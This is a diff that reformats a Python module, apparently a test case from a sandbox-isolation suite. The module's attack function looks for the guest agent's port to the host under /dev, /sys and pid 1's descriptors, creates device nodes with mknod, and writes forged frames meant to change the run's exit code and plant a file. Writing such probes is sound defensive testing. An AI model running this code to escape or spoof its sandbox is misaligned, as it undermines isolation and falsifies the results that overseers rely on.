@@ -1,4 +1,6 @@
-"""Speaks for the guest's agent: looks for the port to the host in /dev, /sys and among pid 1's descriptors, makes its device node, and sends frames that end the run with another exit code and bring a file of their own.
+"""Speaks for the guest's agent: looks for the port to the host in /dev, /sys and among pid 1's
+descriptors, makes its device node, and sends frames that end the run with another exit code and
+bring a file of their own.
 
 layer: the guest's agent has the port open and nobody else can: no node, no capability, another user
 control: where such a port can be opened, the frames go out
@@ -26,13 +28,19 @@ def scene(s):
 def attack(a):
     import glob
     import stat
-    frames = b"".join(struct.pack("<HBBII", 0x5657, kind, 0, channel, 4) + struct.pack("<I", a["code"]) for kind in range(1, 32) for channel in (0, 1, 2))
-    paths = [a["fifo"]] if a["fifo"] else glob.glob("/dev/vport*") + glob.glob("/dev/virtio-ports/*") + glob.glob("/dev/hvc*") + glob.glob("/proc/1/fd/*") + ["/proc/1/root/dev/vport0p1", "/dev/vsock"]
-    for name in [] if a["fifo"] else glob.glob("/sys/class/virtio-ports/*/dev") + glob.glob("/sys/class/block/*/dev") + glob.glob("/sys/class/tty/ttyS0/dev"):
+    frames = b"".join(struct.pack("<HBBII", 0x5657, kind, 0, channel, 4)
+                      + struct.pack("<I", a["code"]) for kind in range(1, 32)
+                      for channel in (0, 1, 2))
+    paths = [a["fifo"]] if a["fifo"] else glob.glob("/dev/vport*") + glob.glob(
+        "/dev/virtio-ports/*") + glob.glob("/dev/hvc*") + glob.glob("/proc/1/fd/*") + [
+            "/proc/1/root/dev/vport0p1", "/dev/vsock"]
+    for name in [] if a["fifo"] else glob.glob("/sys/class/virtio-ports/*/dev") + glob.glob(
+        "/sys/class/block/*/dev") + glob.glob("/sys/class/tty/ttyS0/dev"):
         def node():
             major, minor = map(int, slurp(name).split(":"))
             path = f"/tmp/node{major}.{minor}"
-            os.mknod(path, 0o666 | (stat.S_IFBLK if "block" in name else stat.S_IFCHR), os.makedev(major, minor))
+            os.mknod(path, 0o666 | (stat.S_IFBLK if "block" in name else stat.S_IFCHR),
+                     os.makedev(major, minor))
             paths.append(path)
         attempt(node)
     for path in paths:
